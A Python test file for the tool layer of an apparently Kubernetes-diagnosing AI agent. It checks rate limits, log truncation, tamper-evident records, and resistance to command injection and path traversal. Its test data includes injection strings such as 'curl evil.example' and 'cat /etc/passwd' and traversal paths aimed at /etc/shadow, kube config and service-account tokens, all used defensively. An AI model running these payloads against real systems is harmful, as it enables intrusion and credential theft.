"""The tools of the built-in loop: what may be asked, how much of it, and what never comes out."""

from __future__ import annotations

import itertools
import json
import os
import sys
import time as real_time
from collections import Counter
from pathlib import Path
from typing import Any

import pytest
from api_fake import ApiFake
from loop_world import ANSWER, Time, captured, laid_out, run
from model_fake import ModelFake, serving
from world import example

from faultline.adapters.apiserver import connect
from faultline.adapters.sources.live import LiveCluster
from faultline.agent.built_in import evidence
from faultline.agent.dialects import Call
from faultline.agent.questions import checked
from faultline.agent.record import Chain, Recorded, broken, entries
from faultline.agent.tools import Tools, cut, plain
from faultline.agent.worlds import CapsuleCluster, World
from faultline.capsule import Capsule, objects
from faultline.errors import Rejected, Unavailable
from faultline.limits import tool_answer_bytes_max, tool_calls_max
from faultline.redact import Redactor

NONCE = "0f" * 16
POD = "checkout-vxn7njk876-zv8zp"
SHOP = {"namespace": "shop"}
NAMESPACED = """
    Pod po pods Service svc services Endpoints ep ConfigMap cm configmaps PersistentVolumeClaim pvc
    ResourceQuota quota LimitRange limits ServiceAccount sa Deployment deploy deployments ReplicaSet
    rs StatefulSet sts statefulsets DaemonSet ds daemonsets ControllerRevision Job jobs CronJob cj
    cronjobs HorizontalPodAutoscaler hpa PodDisruptionBudget pdb Ingress ing ingresses NetworkPolicy
    netpol EndpointSlice endpointslices Rollout Application Kustomization HelmRelease
""".split()  # noqa: SIM905 - a table is read more easily so
BARE = ("Node", "no", "nodes", "PersistentVolume", "pv", "StorageClass", "sc", "storageclasses")
EVERYDAY: list[tuple[str, dict[str, Any]]] = [
    *(("list_objects", {"kind": kind, "namespace": "shop"}) for kind in NAMESPACED),
    *(("list_objects", {"kind": kind}) for kind in BARE),
    ("list_objects", {"kind": "pods", "namespace": "shop", "selector": "app=checkout"}),
    ("list_objects", {"kind": "po", "namespace": "shop", "selector": "app=checkout,tier=web"}),
    ("list_objects", {"kind": "Pod", "namespace": "kube-system",
                      "selector": "app.kubernetes.io/name=coredns"}),
    ("get_object", {"kind": "deployment", "name": "checkout", **SHOP}),
    ("get_object", {"kind": "Pod", "name": POD, **SHOP}),
    ("get_object", {"kind": "Node", "name": "ip-10-0-1-7.eu-west-1.compute.internal"}),
    ("get_object", {"kind": "cm", "name": "checkout-config", **SHOP}),
    ("get_object", {"kind": "Secret", "name": "checkout-key", **SHOP}),
    ("get_object", {"kind": "svc", "name": "checkout", **SHOP}),
    ("get_object", {"kind": "hpa", "name": "checkout", **SHOP}),
    ("get_object", {"kind": "sc", "name": "gp3"}),
    *(("describe_object", {"kind": kind, "name": "checkout", **SHOP})
      for kind in ("pod", "deploy", "rs", "svc", "ing", "hpa", "pdb", "sts", "job", "netpol")),
    ("describe_object", {"kind": "node", "name": "node-a"}),
    ("describe_object", {"kind": "pvc", "name": "data-db-0", **SHOP}),
    ("logs", {"pod": POD, **SHOP}),
    ("logs", {"pod": POD, "container": "app", **SHOP}),
    ("logs", {"pod": POD, "container": "app", "previous": True, **SHOP}),
    ("logs", {"pod": POD, "previous": False, "lines": 50, **SHOP}),
    ("logs", {"pod": POD, "lines": 1000, **SHOP}),
    ("logs", {"pod": POD, "contains": "ERROR", **SHOP}),
    ("logs", {"pod": POD, "contains": "panic: runtime error", **SHOP}),
    ("logs", {"pod": "coredns-5d78c9869d-abcde", "namespace": "kube-system"}),
    ("events", SHOP),
    ("events", {"namespace": "default"}),
    ("events", {"kind": "Pod", **SHOP}),
    ("events", {"kind": "Pod", "name": POD, **SHOP}),
    ("events", {"name": "checkout", **SHOP}),
    ("list_files", {}),
    ("list_files", {"under": "context/objects/"}),
    *(("read_file", {"file": name}) for name in sorted(captured("memory"))[:14]),
    ("read_file", {"file": "findings.json"}),
    ("read_file", {"file": "context/logs.txt", "offset": 100, "bytes": 400}),
    ("grep", {"text": "OOMKilled"}),
    ("grep", {"text": "error|panic|fatal"}),
    ("grep", {"text": "limits:", "file": "context/objects/deployment/checkout.yaml"}),
    ("grep", {"text": "exit code 137"}),
    ("grep", {"text": "10.0.3.7:5432"}),
]  # fmt: skip


class Asking:
    """The tools over a recorded fault, with a clock of the test's."""

    def __init__(self, folder: Path, time: Time | None = None, cluster: Any = None) -> None:
        self.time, self.folder = time or Time(), folder
        files = dict(captured("memory")) | {"findings.json": b"{}"}
        capsule = Capsule(files)
        self.redactor = Redactor("20261121-api-5c1e9b2a")
        self.path = folder / "tools.jsonl"
        self.chain = Chain(self.path)
        self.tools = Tools(
            World(files, cluster or CapsuleCluster(capsule, objects(capsule)), self.redactor),
            self.chain,
            self.redactor,
            NONCE,
            clock=self.time.clock,
            sleep=self.time.sleep,
        )

    def ask(self, tool: str, arguments: Any) -> str:
        return self.tools.ask(Call("c", tool, arguments))

    def record(self) -> bytes:
        self.chain.close()
        return self.path.read_bytes()


@pytest.fixture(scope="module")
def shared(tmp_path_factory: pytest.TempPathFactory) -> Asking:
    return Asking(tmp_path_factory.mktemp("shared"))


@pytest.mark.covers("TOOL-01")
def test_a_hundred_everyday_questions_are_allowed(tmp_path: Path) -> None:
    asking = Asking(tmp_path)

    for tool, arguments in EVERYDAY:
        asking.ask(tool, arguments)

    assert len(EVERYDAY) >= 100
    assert asking.tools.outcomes["answered"] >= len(EVERYDAY) - 1, [
        entry for entry in entries(asking.record()) if entry["outcome"] != "answered"
    ]


def test_what_a_capsule_knows_is_told(shared: Asking) -> None:
    assert f"{POD}  Running" in shared.ask("list_objects", {"kind": "po", **SHOP})
    assert "memory: 64Mi" in shared.ask("get_object", {"kind": "Pod", "name": POD, **SHOP})
    assert "OOMKilled" in shared.ask("describe_object", {"kind": "Pod", "name": POD, **SHOP})
    assert "garbage" in shared.ask("logs", {"pod": POD, "previous": True, **SHOP})
    assert "BackOff" in shared.ask("events", SHOP)
    assert "context/logs.txt:" in shared.ask("grep", {"text": "GARBAGE collection"})
    assert "there is no Pod gone in shop" in shared.ask(
        "get_object", {"kind": "Pod", "name": "gone", **SHOP}
    )
    assert "Pod lives in a namespace" in shared.ask("list_objects", {"kind": "Pod"})
    assert "[bytes 10 to 30 of" in shared.ask(
        "read_file", {"file": "context/logs.txt", "offset": 10, "bytes": 20}
    )


INJECTIONS = [
    f"{before}{joined}{command}{after}"
    for before, after in (("", ""), ("x", ""), ("'", "'"), ('"', '"'), ("x", "#"), ("$", ""))
    for joined in (";", "|", "||", "&", "&&", "\n", "\r\n", "`", "$(", "%0a", "\x00", ">", "<(")
    for command in ("id", "touch {canary}", "/bin/sh -c 'touch {canary}'", "curl evil.example",
                    "sleep 30", "cat /etc/passwd", "touch${{IFS}}{canary}", "{{touch,{canary}}}")
]  # fmt: skip


@pytest.mark.covers("TOOL-03")
def test_no_argument_starts_a_process(tmp_path: Path, shared: Asking) -> None:
    canary = tmp_path / "canary"
    strings = [text.replace("{canary}", str(canary)) for text in INJECTIONS]
    started: list[str] = []
    watching = [True]

    def heard(event: str, _: Any) -> None:
        if watching[0] and event in ("subprocess.Popen", "os.system", "os.exec", "os.posix_spawn",
                                     "os.fork", "os.forkpty"):  # fmt: skip
            started.append(event)

    sys.addaudithook(heard)
    for text in strings:
        for tool, arguments in (
            ("logs", {"namespace": "shop", "pod": text}),
            ("logs", {"namespace": text, "pod": "p", "container": text, "contains": text}),
            ("get_object", {"kind": text, "name": text, "namespace": text}),
            ("list_objects", {"kind": "Pod", "namespace": "shop", "selector": text}),
            ("read_file", {"file": text}),
            ("grep", {"text": text}),
            (text, {}),
        ):
            try:
                shared.tools._answers.answer(tool, checked(tool, arguments))
            except Rejected:
                continue
    watching[0] = False

    assert len(strings) >= 531
    assert started == []
    assert not canary.exists()


UPS = ("../", "..\\", "..%2f", "%2e%2e/", "%2e%2e%2f", "..%252f", "%252e%252e/", "....//", "..;/",
       "..%c0%af", "%c0%ae%c0%ae/", "..%5c", "%2e%2e%5c", "..%255c", "...//", "\uff0e\uff0e/",
       ".../", "./../", "..//", "..\x00/")  # fmt: skip
ENDS = ("etc/passwd", "etc/shadow", "etc/hosts", "proc/self/environ", "proc/1/environ", "secret",
        "etc/passwd%00.txt", "etc/passwd\x00", "windows/win.ini", "boot.ini", "root/.kube/config",
        "var/run/secrets/kubernetes.io/serviceaccount/token", "etc/passwd?", "etc/passwd#", "",
        )  # fmt: skip
TRAVERSALS = [
    f"{start}{up * depth}{end}"
    for up in UPS
    for depth in range(1, 17)
    for start in ("", "/", "context/", "./", "file://")
    for end in ENDS
]


@pytest.mark.covers("TOOL-08")
def test_no_name_leads_out_of_the_evidence(tmp_path: Path) -> None:
    workspace = laid_out(tmp_path / "run")
    (tmp_path / "secret").write_text("c4n4ry")
    (workspace / "context/link.txt").symlink_to(tmp_path / "secret")
    (workspace / "context/folder").symlink_to(tmp_path)
    files = evidence(workspace)
    world = World(files, CapsuleCluster(Capsule(files), ()), Redactor())
    names = [*TRAVERSALS, "context/link.txt", "context/folder/secret", str(tmp_path / "secret")]
    escaped = []
    for name, tool in itertools.product(names, ("read_file", "grep")):
        arguments = {"file": name} | ({"text": "c"} if tool == "grep" else {})
        try:
            escaped.append((name, world.answer(tool, checked(tool, arguments))))
        except Rejected:
            continue

    assert len(TRAVERSALS) > 23_000
    assert escaped == []
    assert not any(b"c4n4ry" in data for data in files.values())


@pytest.mark.covers("TOOL-09")
def test_at_most_sixty_questions_a_minute_and_three_hundred_a_run(tmp_path: Path) -> None:
    asking = Asking(tmp_path)
    times = []

    for number in range(tool_calls_max + 20):
        asking.ask("list_files", {"under": f"context/{number}"})
        times.append(asking.time.now)

    answered = Counter(int(moment) for moment in times[:tool_calls_max])
    assert all(
        sum(n for at, n in answered.items() if start <= at < start + 60) <= 60 for start in answered
    )
    assert asking.tools.outcomes == {"answered": tool_calls_max, "limited": 20}
    assert asking.tools.exhausted


@pytest.mark.covers("TOOL-09")
def test_the_same_question_is_cut_and_whoever_only_repeats_has_to_answer(tmp_path: Path) -> None:
    asking = Asking(tmp_path)

    told = [asking.ask("events", SHOP) for _ in range(6)]

    assert ["asked before" in text for text in told] == [False, False, True, True, True, True]
    assert asking.tools.exhausted


def test_a_model_that_repeats_itself_is_told_to_answer(tmp_path: Path) -> None:
    def repeats(number: int, body: dict[str, Any]) -> Any:
        return [("events", SHOP)] if "tools" in body else json.dumps(ANSWER)

    model = ModelFake(repeats)

    ran = run(laid_out(tmp_path / "run"), model)

    assert ran.code == 0
    assert len(model.asked) == 7  # two answers, four times "asked before", its own answer


@pytest.fixture
def api(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Any:
    server = ApiFake(example("memory"))
    path = server.kubeconfig(tmp_path)
    monkeypatch.setattr("kubernetes.config.kube_config.KUBE_CONFIG_DEFAULT_LOCATION", str(path))
    monkeypatch.delenv("KUBERNETES_SERVICE_HOST", raising=False)
    with serving(server):
        yield server


@pytest.mark.covers("TOOL-04")
def test_a_log_without_an_end_is_cut_with_a_mark_and_nothing_follows(
    tmp_path: Path, api: ApiFake
) -> None:
    api.log_bytes = 1 << 30
    asking = Asking(tmp_path, cluster=LiveCluster(connect()))

    told = asking.ask("logs", {"pod": POD, **SHOP})

    assert len(told.encode()) < tool_answer_bytes_max + 1_000 < 1 << 20
    assert "[cut: " in told
    _, _, query = api.asked[-1]
    assert int(query["limitBytes"][0]) == 1 << 20
    for refused in ({"follow": True}, {"watch": True}, {"lines": 0}, {"lines": 1_001}):
        assert "refused: " in asking.ask("logs", {"pod": POD, **SHOP, **refused})
    assert len(api.asked) == 1


def test_an_answer_that_drips_is_given_up_in_time(api: ApiFake) -> None:
    api.log_bytes = 1 << 30
    get = connect(lambda: 0.05)
    began = real_time.monotonic()

    with pytest.raises(Unavailable, match="no whole answer within"):
        get("/api/v1/namespaces/shop/pods/p/log", {"previous": "false"})
    assert real_time.monotonic() - began < 5
    with pytest.raises(Unavailable, match="used up"):
        connect(lambda: 0.0)("/api/v1/namespaces/shop/pods", {})


@pytest.mark.covers("TOOL-10")
def test_programs_that_lie_about_are_never_run(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    workspace, canary = laid_out(tmp_path / "run"), tmp_path / "canary"
    for name in ("kubectl", "kubectl-foo", "sh", "env", "python", "helm", "cat"):
        for folder in (workspace, workspace / "context"):
            program = folder / name
            program.write_text(f"#!/bin/sh\ntouch {canary}\n")
            program.chmod(0o755)
    (workspace / "sitecustomize.py").write_text(f"open({str(canary)!r}, 'w')")
    monkeypatch.setenv("PATH", f"{workspace}:{workspace}/context:{os.environ['PATH']}")
    monkeypatch.chdir(workspace)
    orders: list[Any] = [
        ("kubectl", {"arguments": "get pods"}),
        ("kubectl-foo", {}),
        ("logs", {"pod": POD, **SHOP}),
    ]

    ran = run(workspace, ModelFake([orders, json.dumps(ANSWER)]))

    assert ran.code == 0
    assert not canary.exists()


def test_a_cut_keeps_the_end_and_says_how_much_is_missing() -> None:
    text = cut("a" * 1_000 + "\n" + "é" * 1_000 + "\nlast", 400)

    assert text.startswith("aaa")
    assert text.endswith("é\nlast")
    assert "bytes left out here" in text
    assert len(text.encode()) <= 400
    assert cut(text, 400) == text


def test_what_a_model_sends_is_kept_in_a_form_that_can_be_kept() -> None:
    deep: Any = []
    for _ in range(900):
        deep = [deep]

    kept = plain({"a\x1b[31m": float("nan"), "b": "\ud800\u202e", "c": deep, "d": "x" * 9_999})

    assert kept["a[U+001B][31m"] == "nan"
    assert kept["b"] == "[U+D800][U+202E]"
    assert len(kept["d"]) == 2_000
    json.dumps(kept, allow_nan=False).encode()


@pytest.mark.covers("OBS-09")
def test_a_changed_byte_is_noticed_wherever_it_is(tmp_path: Path) -> None:
    asking = Asking(tmp_path)
    for tool, arguments in EVERYDAY[:12]:
        asking.ask(tool, arguments)
    whole = asking.record()
    places = range(0, len(whole), max(1, len(whole) // 100))

    noticed = []
    for at in places:
        changed = bytearray(whole)
        changed[at] ^= 1
        noticed.append(broken(bytes(changed)) != "")

    assert broken(whole) == ""
    assert len(noticed) >= 100
    assert all(noticed)


def test_a_line_that_is_missing_doubled_or_moved_is_noticed(tmp_path: Path) -> None:
    asking = Asking(tmp_path)
    for tool, arguments in EVERYDAY[:5]:
        asking.ask(tool, arguments)
    lines = asking.record().splitlines(keepends=True)

    for wrong in (
        lines[:-1], lines[1:], lines[:2] + lines[3:], [*lines[:3], lines[2], *lines[3:]],
        [lines[1], lines[0], *lines[2:]], [], lines + lines[-1:],
    ):  # fmt: skip
        assert broken(b"".join(wrong)) != ""


def test_a_record_answers_what_it_knows_and_invents_nothing(tmp_path: Path) -> None:
    asking = Asking(tmp_path)
    told = asking.ask("events", SHOP)
    recorded = Recorded(asking.record())

    known = recorded.answer("events", SHOP)
    again = recorded.answer("events", SHOP)
    unknown = recorded.answer("events", {"namespace": "other"})

    assert known == again
    assert known[0] == "answered"
    assert known[1] in told
    assert unknown == ("not recorded", "not recorded: nobody asked this when the record was made")
    assert recorded.unrecorded == 1


def test_a_record_that_was_changed_is_not_answered_from(tmp_path: Path) -> None:
    asking = Asking(tmp_path)
    asking.ask("events", SHOP)

    with pytest.raises(Rejected, match="line 1 is not as it was written"):
        Recorded(asking.record().replace(b"shop", b"shoq", 1))
